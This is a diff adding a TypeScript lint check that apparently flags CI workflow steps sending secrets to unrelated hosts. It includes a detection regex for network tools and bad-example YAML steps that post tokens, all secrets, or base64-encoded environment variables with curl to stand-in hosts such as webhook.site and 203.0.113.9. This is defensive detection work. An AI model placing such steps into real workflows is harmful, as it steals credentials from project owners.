@@ -1,0 +1,162 @@
+import type { Answer } from "../../../domain/finding/finding.ts";
+import {
+  type Carried,
+  isNothing,
+  joined,
+} from "../../../domain/workflow/credentials/leaks/carried.ts";
+import { carriedInWords } from "../../../domain/workflow/credentials/leaks/in-words.ts";
+import {
+  belongsTo,
+  isCatcher,
+  isOwnHost,
+  type Sending,
+  sendingOf,
+} from "../../../domain/workflow/credentials/leaks/network.ts";
+import type { Doing } from "../../../domain/workflow/credentials/leaks/secret-tracer.ts";
+import { traceSecrets } from "../../../domain/workflow/credentials/leaks/trace-secrets.ts";
+import type { Text } from "../../../domain/workflow/text.ts";
+import { defineCheck } from "../../define-check.ts";
+
+const strangers = ({ secrets }: Carried, host: string): readonly string[] =>
+  secrets.filter((name) => !belongsTo(name, host));
+
+/** Several secrets that have nothing to do with the host, or one of them where it is only collected. */
+function graded({ host, data, header }: Sending): Partial<Answer> | undefined {
+  const all = joined([data, header]);
+  if (isOwnHost(host)) return undefined;
+  if (data.everything) return { severity: "critical" };
+  if (isCatcher(host)) return { severity: "critical" };
+  if (host === "" || isNothing(data)) return undefined;
+  const strange = strangers(all, host);
+  if (strange.length > 1 && strange.length === all.secrets.length)
+    return { severity: "high", confidence: "medium" };
+  return strange.length === 1 && all.secrets.length === 1
+    ? { severity: "medium", confidence: "low", persona: "pedantic" }
+    : undefined;
+}
+
+function* judge(doing: Doing, script: Text): Generator<Answer> {
+  const sending = sendingOf(doing);
+  const grade = sending && graded(sending);
+  if (sending === undefined || grade === undefined) return;
+  const { host, data, header } = sending;
+  const where = host === "" ? "a host that only the run knows" : `\`${host}\``;
+  const why = isCatcher(host) ? ", where nobody offers a service and anybody can collect" : "";
+  yield {
+    at: script.at(doing.from, doing.to),
+    message: `${carriedInWords(joined([data, header]))} goes to ${where}${why}`,
+    ...grade,
+  };
+}
+
+export default defineCheck({
+  id: "secret-exfiltration",
+  title: "Secrets are sent to a stranger",
+  severity: "high",
+  onlyWith: ["secrets"],
+  why: "This is how stolen workflows look: a step that reads all secrets or several unrelated ones and posts them to somebody's host. GhostAction took 3,325 secrets so, and the Shai-Hulud worm spread with it.",
+  fix: "If you did not write this, revoke every secret named here and look for the commit that brought it. If you did, send each secret only to the service that issued it.",
+
+  *step(step) {
+    const { run } = step;
+    if (
+      run === undefined ||
+      !/curl|wget|\bn(?:et)?cat?\b|socat|telnet|http|i[wr][rm]\b|invoke-/i.test(run.text)
+    )
+      return;
+    const trace = traceSecrets(step);
+    if (trace) for (const doing of trace.doings) yield* judge(doing, run);
+  },
+
+  examples: {
+    bad: [
+      {
+        title: "several secrets in one request, as GhostAction did",
+        yaml: `
+          on: push
+          jobs:
+            security:
+              runs-on: ubuntu-latest
+              steps:
+                - run: curl -s -X POST -d 'NPM=\${{ secrets.NPM_TOKEN }}&CARGO=\${{ secrets.CARGO_TOKEN }}' https://collect.example.org
+                  #    ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: \`NPM_TOKEN\` and 1 more secrets goes to
+        `,
+      },
+      {
+        title: "every secret, encoded, as a worm did",
+        yaml: `
+          on: push
+          jobs:
+            process:
+              runs-on: ubuntu-latest
+              steps:
+                - run: curl -d "$CONTENTS" https://webhook.site/bb8ca5f6
+                  #    ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ critical: every secret
+                  env:
+                    CONTENTS: \${{ toJSON(secrets) }}
+        `,
+      },
+      {
+        title: "every variable, piped to an address",
+        yaml: `
+          on: push
+          jobs:
+            build:
+              runs-on: ubuntu-latest
+              steps:
+                - run: env | base64 | curl -s --data-binary @- "http://203.0.113.9/x"
+                  #                   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ critical: every variable
+                  env:
+                    KEY: \${{ secrets.DEPLOY_KEY }}
+        `,
+      },
+      {
+        title: "one secret, for a service that has nothing to do with it",
+        yaml: `
+          on: push
+          jobs:
+            build:
+              runs-on: ubuntu-latest
+              steps:
+                - run: curl -d "v=$SIGNING_KEY" https://stats.example.org/collect
+                  #    ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ medium: \`SIGNING_KEY\` goes to
+                  env:
+                    SIGNING_KEY: \${{ secrets.SIGNING_KEY }}
+        `,
+      },
+    ],
+    good: [
+      {
+        title: "the service's own secret, as proof or in the body",
+        yaml: `
+          on: push
+          jobs:
+            build:
+              runs-on: ubuntu-latest
+              env:
+                SLACK_TOKEN: \${{ secrets.SLACK_TOKEN }}
+                DEPLOY_TOKEN: \${{ secrets.DEPLOY_TOKEN }}
+              steps:
+                - run: |
+                    curl -d "token=$SLACK_TOKEN" -d "text=done" https://slack.com/api/chat.postMessage
+                    curl -H "Authorization: Bearer $DEPLOY_TOKEN" https://deploy.example.org/start
+                    curl -X POST "\${{ secrets.HOOK_URL }}"
+                    curl -d "key=$DEPLOY_TOKEN" http://localhost:8080/login
+        `,
+      },
+      {
+        title: "no secret",
+        yaml: `
+          on: push
+          jobs:
+            build:
+              runs-on: ubuntu-latest
+              steps:
+                - run: curl -d "stage=$STAGE" https://stats.example.org/collect # no secrets
+                  env:
+                    STAGE: \${{ vars.STAGE }}
+        `,
+      },
+    ],
+  },
+});
